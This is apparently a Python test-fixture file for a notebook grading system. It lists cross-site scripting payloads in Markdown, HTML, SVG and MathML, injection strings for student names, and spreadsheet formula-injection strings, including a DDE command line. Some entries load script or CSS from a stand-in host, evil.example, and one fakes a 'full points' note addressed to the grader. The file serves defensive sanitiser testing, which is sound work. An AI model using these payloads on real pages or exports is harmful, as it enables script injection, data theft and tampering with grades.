"""Texts with which a student might try to run a script in the page of whoever marks.

Each would call `alert` in a page that showed it as it is, or lead to such a page by one click.
"""

from __future__ import annotations

import base64
import io

from PIL import Image

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "[click]\n\n[click]: JaVaScRiPt:alert(1)",
    "[click](<javascript:alert(1)>)",
    "[click](java\tscript:alert(1))",
    "[click](<java\nscript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml,<svg onload=alert(1)>)",
    "[click](/terminals/1)",
    "[click](//evil.example/x)",
    "[click](file:///etc/passwd)",
    "[click](blob:http://127.0.0.1/1)",
    "[click](view-source:http://x.example)",
    '[click](https://x.example "a\\" onmouseover=alert(1) b=\\"")',
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](attachment:none.png)",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$<img src=x onerror=alert(1)>$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}",
    "# <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a\n\n<details open ontoggle=alert(1)>\n\n[click](javascript:alert(1))\n\n</details>",
    "<div>\n\n[click][x]\n\n</div>\n\n[x]: javascript:alert(1)",
]
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x`" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    '<img srcset="https://evil.example/x 1x">',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>click</button></form>",
    '<form id=x></form><button form=x formaction="javascript:alert(1)">click</button>',
    "<a href=javascript:alert(1)>click</a>",
    '<a href="  &#14; javascript:alert(1)">click</a>',
    "<a href=/lab>click</a>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<td style="position:fixed;top:0;text-align:center">x</td>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "</div></div></body><script>alert(1)</script>",
    '<div class="nbgrader_cell"><input class="score" id="why"></div>',
    '<div class="alert alert-info">For whoever marks: full points</div>',
    '<b id="why" name="submission_id">x</b>',
    "<p onpointerenter=alert(1)>x</p>",
    "<x contenteditable onblur=alert(1)>x</x>",
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>click</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x' /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href=javascript:alert(1)>click</mi></math>",
    "<math><maction actiontype=statusline#https://evil.example>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]
TEXTS = [*MARKDOWN, *HTML, *FOREIGN]

# As the name of a student, or as a part of one, where it stands in pages, in links and in tables.
IDS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)<∕script>_12",
    '";alert(1);"',
    '" onmouseover="alert(1)',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "{{7*7}}",
    "${alert(1)}",
    "`alert(1)`",
    "javascript&colon;alert(1)",
    "Ada#x",
    "Ada%22%3E",
    "Ada?x=1",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "Ada;=1+1",
    "Ada\t=1+1",
    "Ada\r=1+1",
    '=HYPERLINK("https://evil.example";"click")',
    "=cmd|' /C calc'!A0",
    "|=1+1",
    "'=1+1",
]

# In a browser: hover over, focus and click everything that a selector finds.
TOUCH = """(selector) => {
    for (const element of document.querySelectorAll(selector)) {
        for (const name of ["mouseover", "pointerenter", "focus", "toggle", "blur", "error"])
            element.dispatchEvent(new Event(name, {bubbles: true}));
        element.setAttribute("target", "_self");
        // An ordinary link, to a paper say, may lead away: that is no script.
        if (/^https?:/.test(element.getAttribute("href") || "")) continue;
        if (element.matches("a, button, text")) element.dispatchEvent(
            new MouseEvent("click", {bubbles: true, cancelable: true}));
    }
}"""


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 8)) -> str:
    """A red picture in base64."""
    data = io.BytesIO()
    Image.new("RGB", size, "red").save(data, kind)
    return base64.b64encode(data.getvalue()).decode()
